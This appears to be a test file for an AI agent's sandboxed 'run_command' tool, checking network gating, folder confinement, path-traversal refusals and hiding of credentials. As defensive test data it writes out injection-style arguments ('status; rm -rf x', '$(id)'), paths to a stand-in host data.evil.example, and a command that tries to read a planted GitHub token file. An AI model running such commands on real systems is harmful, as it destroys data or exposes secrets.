import { englishText, quote } from '../../../lib/messages.ts'
import promises, { chmod, readdir, symlink } from 'node:fs/promises'
import { syncBuiltinESMExports } from 'node:module'
import { describe, expect, it, onTestFinished, vi } from 'vitest'
import type { SandboxState } from '../../../platform/sandbox/sandbox-types.ts'
import { noSandbox } from '../../../platform/sandbox/find-sandbox.ts'
import { createUserToolchain, systemPrograms } from '../../../platform/programs/user-toolchain.ts'
import { withGrowingLimit } from '../../../testing/growing-limit.ts'
import { findSandboxHere } from '../../../testing/sandbox-here.ts'
import { callTool, scratchFolder } from '../../../testing/scratch-folder.ts'
import { factsOf, type ToolContext } from '../tool.ts'
import { runCommandTool, type RunCommandDeps } from './run-command.ts'

const { sandbox: found } = await findSandboxHere()
const none = noSandbox(quote('bubblewrap is not installed on this machine.'), quote('Install bubblewrap.'))
const sandboxed: SandboxState = { ...none, kind: 'bubblewrap', works: true, reason: null }
const networked: SandboxState = { ...sandboxed, network: { works: true, reason: null, advice: null } }

const toolWith = (sandbox: SandboxState, network = false, more: Partial<RunCommandDeps> = {}) =>
  runCommandTool({
    sandbox: async () => sandbox,
    network: async () => network,
    programs: async () => systemPrograms(),
    skills: { open: async () => null },
    names: [],
    ...more,
  })
const contextFor = (folders: string[]): ToolContext => ({
  jobId: 'job',
  agentId: 'agent',
  callId: 'call',
  folders,
  closedFolders: [],
  signal: new AbortController().signal,
})
const factsOfCommand = async (command: string[], sandbox = sandboxed, network = false) => {
  const folder = (await scratchFolder('Project')).path
  const tool = toolWith(sandbox, network)
  return { folder, facts: await factsOf(tool, tool.args.parse({ command, folder: 'Project' }), contextFor([folder])) }
}

it('run_command has a limit that no call can exceed', () => {
  const { args, limitMs } = toolWith(none)
  const lasting = (timeoutSeconds: number) => args.safeParse({ command: ['make'], folder: 'Project', timeoutSeconds }).success
  expect([lasting(limitMs! / 1_000), lasting(limitMs! / 1_000 + 1)]).toEqual([true, false])
})

describe('the facts of run_command', () => {
  it('run code in one folder, without network in the sandbox', async () => {
    const { folder, facts } = await factsOfCommand(['env', 'test'])
    expect(facts).toEqual({
      tool: 'run_command',
      effect: 'once',
      subject: 'env test',
      paths: [folder],
      argv: ['env', 'test'],
      sandboxed: true,
      program: expect.stringMatching(/\/env$/) as string,
      found: [],
      summary: 'Run “env test” in Project, in the sandbox, without network',
      effectOn: { code: 'effect_run', params: { line: 'env test', folder: 'Project', sandbox: 'without_network' } },
      leavesMachine: false,
      costsMoney: false,
      deletes: false,
      overwrites: false,
      runsCode: true,
    })
  })

  it.each<[string, SandboxState, boolean, boolean, RegExp]>([
    ['a rule opens the network', networked, true, true, /in the sandbox, with network$/],
    ['no rule opens it', networked, false, false, /in the sandbox, without network$/],
    ['the sandbox has none to open', sandboxed, true, false, /in the sandbox, without network$/],
    ['there is no sandbox', none, false, true, /without a sandbox: it can do anything you can\. bubblewrap is not installed/],
  ])('say whether the call leaves the machine if %s', async (_, sandbox, network, leaves, words) => {
    const { facts } = await factsOfCommand(['npm', 'install'], sandbox, network)
    expect([facts.leavesMachine, facts.sandboxed]).toEqual([leaves, sandbox.works])
    expect(facts.summary).toMatch(words)
  })

  it('show the shell line', async () =>
    expect((await factsOfCommand(['sh', '-c', 'npm test | tail\nrm x'])).facts.summary).toBe(
      'Run the shell line “npm test | tail\\u{a}rm x” (read by sh) in Project, in the sandbox, without network',
    ))

  it('quote arguments unambiguously', async () =>
    expect((await factsOfCommand(['git', 'status; rm -rf x'])).facts.subject).toBe("git 'status; rm -rf x'"))

  it('stay short', async () => expect((await factsOfCommand(['echo', 'x'.repeat(50_000)])).facts.summary.length).toBeLessThan(800))

  it.each([
    ['a script', ['python3', '//data.evil.example/s/x.py']],
    ['an option', ['make', '--file=//data.evil.example/s/x']],
    ['the line of a shell', ['sh', '-c', 'cat //data.evil.example/s/x']],
    ['a path of Windows', ['cmd', '/c', String.raw`\\data.evil.example\s\x`]],
  ])('contact no server that the command names as %s', async (_, command) => {
    const realpath = vi.spyOn(promises, 'realpath')
    syncBuiltinESMExports()
    onTestFinished(() => {
      realpath.mockRestore()
      syncBuiltinESMExports()
    })
    const { folder, facts } = await factsOfCommand(command, none)
    const asked = realpath.mock.calls.map(([path]) => String(path))
    expect(asked).toContain(folder)
    expect(asked.filter((path) => path.includes('data.evil') && !path.startsWith(folder))).toEqual([])
    expect(facts.runsUnnamed).toBe(true)
  })

  it('belong to a non-idempotent tool that adds both taints', () =>
    expect(toolWith(sandboxed)).toMatchObject({
      name: 'run_command',
      effect: 'once',
      parallel: false,
      addsTaint: ['private', 'untrusted'],
    }))
})

const cases: [string, SandboxState][] = [...(found.works ? [['sandboxed', found] as [string, SandboxState]] : []), ['unsandboxed', none]]
describe.skipIf(process.platform === 'win32').each(cases)('run_command, %s', (_, sandbox) => {
  const tool = toolWith(sandbox)
  async function call(command: string[], more: Record<string, unknown> = {}) {
    const folder = await scratchFolder('Project')
    await folder.write('notes.txt', 'some notes\n')
    await folder.write('ls', '#!/bin/sh\necho planted\n')
    await folder.write('run.sh', '#!/bin/sh\necho "ran in $(basename "$PWD") with $*"\n')
    await folder.write('sub/deep.txt', 'deep\n')
    await symlink('/bin', folder.at('bin'))
    await symlink('sub', folder.at('link'))
    await Promise.all(['ls', 'run.sh'].map((name) => chmod(folder.at(name), 0o755)))
    return { folder, answer: await callTool(tool, { command, folder: 'Project', ...more }, [folder.path]) }
  }

  it.each<[string, string[], Record<string, unknown>, boolean, RegExp]>([
    ['output', ['cat', 'notes.txt'], {}, true, /^Exit code 0 after \d+\.\d s in Project\.\nsome notes$/],
    ['no output', ['true'], {}, true, /^Exit code 0 .*\n\[no output\]$/],
    ['an exit code', ['sh', '-c', 'echo no >&2; exit 3'], {}, false, /^Exit code 3 .*\nno$/],
    ['a signal', ['sh', '-c', 'kill -TERM $$'], {}, false, /^Exit code 143 \(SIGTERM\)/],
    ['an inner folder', ['cat', 'deep.txt'], { folder: 'Project/sub' }, true, /in Project\/sub\.\ndeep$/],
    ['a script of the folder', ['./run.sh', 'a b', '-x'], {}, true, /ran in Project with a b -x$/],
    ['text without colours', ['printf', String.raw`\033[31mred\033[0m`], {}, true, /\nred$/],
    ["the system's own program, not one that was planted", ['ls', 'sub'], {}, true, /\ndeep\.txt$/],
    ['no shell: quotes and wildcards as they are', ['echo', '*', '$(id)', ';', '`id`', '-n'], {}, true, /\n\* \$\(id\) ; `id` -n$/],
  ])('returns %s', async (_name, command, more, ok, output) => {
    const { answer } = await call(command, more)
    expect(answer.output).toMatch(output)
    expect(answer.ok).toBe(ok)
  })

  it('returns the end of its time', async () => {
    const { answer } = await withGrowingLimit(
      (limitMs) => call(['sh', '-c', 'echo begun; sleep 300'], { timeoutSeconds: Math.ceil(limitMs / 1_000) }),
      ({ answer: { output } }) => output.endsWith('begun'),
    )
    expect(answer.output).toMatch(/^Stopped: not finished after \d+ s in Project.*\nbegun$/)
    expect(answer.ok).toBe(false)
  })

  it.each<[string, string[], Record<string, unknown>, RegExp]>([
    ['a program that is not there', ['no-such-program'], {}, /no program 'no-such-program' on this machine/],
    ['a whole line in one element', ['npm test'], {}, /each argument as an element of its own/],
    ['an empty word', [''], {}, /command is empty/],
    ['a NUL', ['echo', 'a\0b'], {}, /NUL/],
    ['a program of the folder without ./', ['run.sh'], {}, /name it '\.\/run\.sh'/],
    ['a relative path without ./', ['sub/x'], {}, /'\.\/' before it/],
    ['a program above the folder', ['../x'], {}, /'\.\/' before it: '\.\/x'/],
    ['a program that a link leads to', ['./bin/sh'], {}, /leads out of the folder/],
    ['a way out by ./', ['./../../x'], {}, /no '.*' in the folder|leads out/],
    ['a program outside of the system', ['/tmp/evil'], {}, /neither in the folder nor/],
    ['a system path with ..', ['/usr/bin/../../tmp/evil'], {}, /neither in the folder nor/],
    ['a file that is not a program', ['./notes.txt'], {}, /not a program/],
    ["a folder that is not the agent's", ['ls'], { folder: '/etc' }, /outside of the agent's folders/],
    ['a folder above', ['ls'], { folder: 'Project/../..' }, /leads out/],
    ['a folder behind a link', ['ls'], { folder: 'Project/link' }, /leads through a link/],
    ['a file for a folder', ['ls'], { folder: 'Project/notes.txt' }, /is a file/],
    ['no folder', ['ls'], { folder: '' }, /Name the folder/],
    ['a book for an argument', ['echo', 'x'.repeat(100_001)], {}, /at most 100000 characters/],
  ])('refuses %s', async (_name, command, more, output) => {
    const { answer } = await call(command, more)
    expect(answer).toMatchObject({ ok: false })
    expect(answer.output).toMatch(output)
  })

  it('cuts the middle out of a long output', async () => {
    const { answer } = await call(['seq', '200000'])
    expect(answer.output.length).toBeLessThan(60_000)
    expect(answer.output).toMatch(/^Exit code 0 [^\n]*\n1\n2\n[^]*\[… \d+ bytes left out here …\][^]*\n200000$/)
  })

  it('shows its output while it runs, and stops with the job', async () => {
    const folder = await scratchFolder('Project')
    const stop = new AbortController()
    let shown = ''
    const show = (text: string) => {
      shown += text
      stop.abort()
    }
    const args = tool.args.parse({ command: ['sh', '-c', String.raw`printf '\033[1mhello\n'; sleep 60`], folder: 'Project' })
    const answer = await tool.run(args, { ...contextFor([folder.path]), signal: stop.signal, show })
    expect(shown).toBe('hello\n')
    expect(answer).toMatchObject({ ok: false, output: expect.stringMatching(/^Stopped after .*\nhello$/) })
  })
})

describe.skipIf(!found.works)('run_command in the sandbox', () => {
  it("writes only in the named folder, not in the whole agent's folder", async () => {
    const folder = await scratchFolder('Project')
    await folder.write('sub/x')
    await folder.write('notes.txt')
    const command = ['sh', '-c', 'echo a > here; echo b > ../there; ls ..']
    const { output } = await callTool(toolWith(found), { command, folder: 'Project/sub' }, [folder.path])
    expect(output).not.toContain('notes.txt')
    expect((await readdir(folder.at('sub'))).sort()).toEqual(['here', 'x'])
    expect((await readdir(folder.path)).sort()).toEqual(['notes.txt', 'sub'])
  })

  it('cannot see closed folders', async () => {
    const folder = await scratchFolder('Home')
    await folder.write('.deckhand/deckhand.db', 'rows')
    const command = ['sh', '-c', 'cat .deckhand/deckhand.db; ls -A .deckhand; mv .deckhand x']
    const { output } = await callTool(toolWith(found), { command, folder: 'Home' }, [folder.path], undefined, [folder.at('.deckhand')])
    expect(output).not.toContain('rows')
    expect(await readdir(folder.at('.deckhand'))).toEqual(['deckhand.db'])
  })

  it('cannot see what is in a hidden folder, and works in one that is open inside it', async () => {
    const folder = await scratchFolder('Home')
    await folder.write('private/diary', 'alpha')
    await folder.write('private/shared/note', 'beta')
    const context = { ...contextFor([folder.path]), hiddenFolders: [folder.at('private')] }
    const tool = toolWith(found)
    const command = ['sh', '-c', 'cat private/diary diary ../diary note']
    expect((await tool.run({ command, folder: 'Home' }, context)).output).not.toMatch(/alpha|beta/)
    const { output } = await tool.run({ command, folder: 'Home/private/shared' }, context)
    expect(output).not.toContain('alpha')
    expect(output).toContain('beta')
  })

  it('says that the sandbox has no network although a rule allows it', async () => {
    const folder = await scratchFolder('Project')
    const tool = toolWith(found, true)
    const { output } = await callTool(tool, { command: ['true'], folder: 'Project' }, [folder.path])
    if (found.network.works) expect(output).not.toContain('[no network')
    else expect(output).toContain(`[no network: ${englishText(found.network.reason!)}]`)
  })
})

/** A home with a program of the person's, and beside it the folder of an agent in which lies one of the same name. */
async function homeWithPrograms() {
  const scratch = await scratchFolder()
  const program = async (path: string, words: string) => chmod(await scratch.write(path, `#!/bin/sh\necho "${words}"\n`), 0o755)
  await program('home/.local/bin/greet', "the person's")
  await program('home/.local/bin/ls', "the person's ls")
  await program('home/Project/greet', 'planted')
  await program('home/Project/bin/git', 'planted')
  await program('home/hidden/tool', 'hidden')
  await symlink(scratch.at('home/Project/greet'), scratch.at('home/.local/bin/welcome'))
  await symlink(scratch.at('home/gone'), scratch.at('home/.local/bin/gone'))
  await scratch.write('home/.config/gh/hosts.yml', 'token')
  const folders = ['home/Project/bin', 'home/.local/bin'].map((path) => scratch.at(path))
  const own = createUserToolchain({
    listFolders: async () => [...folders, '/usr/bin', '.'],
    writable: () => [scratch.at('home/Project')],
    dataDir: scratch.at('home/.deckhand'),
    home: scratch.at('home'),
  })
  const call = (sandbox: SandboxState, ...command: string[]) =>
    callTool(toolWith(sandbox, false, { programs: (closed) => own.find(closed) }), { command, folder: 'Project' }, [
      scratch.at('home/Project'),
    ])
  return { scratch, call }
}

describe.skipIf(process.platform === 'win32').each(cases)("the person's programs, %s", (_, sandbox) => {
  it.each([
    ['by name', ['greet'], "the person's"],
    ['before those of the system, where the person has them so', ['ls'], "the person's ls"],
    ['by a shell', ['sh', '-c', 'greet'], "the person's"],
  ])('are run %s', async (_name, command, words) => {
    const { call } = await homeWithPrograms()
    expect(await call(sandbox, ...command)).toEqual({ ok: true, output: expect.stringMatching(new RegExp(`\n${words}$`)) as string })
  })

  it('are run by their path', async () => {
    const { call, scratch } = await homeWithPrograms()
    expect((await call(sandbox, scratch.at('home/.local/bin/greet'))).output).toMatch(/the person's$/)
  })

  it("are never a file of the agent with a program's name", async () => {
    const { call } = await homeWithPrograms()
    expect((await call(sandbox, 'git', '--version')).output).toMatch(/git version/)
    expect((await call(sandbox, 'sh', '-c', 'git --version')).output).toMatch(/git version/)
  })

  it.each([
    ['leads to where agents write', ['welcome'], /no program 'welcome'/],
    ['is a dangling link', ['gone'], /no program 'gone'/],
    ['lies elsewhere in the home', ['HOME/hidden/tool'], /neither in the folder nor/],
    ['leads to where agents write, by its path', ['HOME/.local/bin/welcome'], /not a program that may be started/],
    ['is reached by ..', ['HOME/.local/bin/../../hidden/tool'], /neither in the folder nor/],
  ])('are not found if it %s', async (_name, [name], words) => {
    const { call, scratch } = await homeWithPrograms()
    const answer = await call(sandbox, name!.replace('HOME', scratch.at('home')))
    expect(answer).toEqual({ ok: false, output: expect.stringMatching(words) as string })
  })
})

describe.skipIf(!found.works)("the person's programs in the sandbox", () => {
  it('have no access to the settings and logins of the person', async () => {
    const { call, scratch } = await homeWithPrograms()
    const { output } = await call(found, 'sh', '-c', `cat '${scratch.at('home/.config/gh/hosts.yml')}'; /bin/ls -A '${scratch.at('home')}'`)
    expect(output).not.toContain('token\n')
    expect(output).toMatch(/No such file[^]*\n\.local\nProject$/)
  })
})

it('names the well-known programs to the model, without logins', () => {
  expect(toolWith(sandboxed, false, { names: ['git', 'gh'] }).description).toMatch(
    /Installed, among others: git, gh\. They run without the person's logins/,
  )
  expect(toolWith(sandboxed).description).not.toContain('Installed')
})
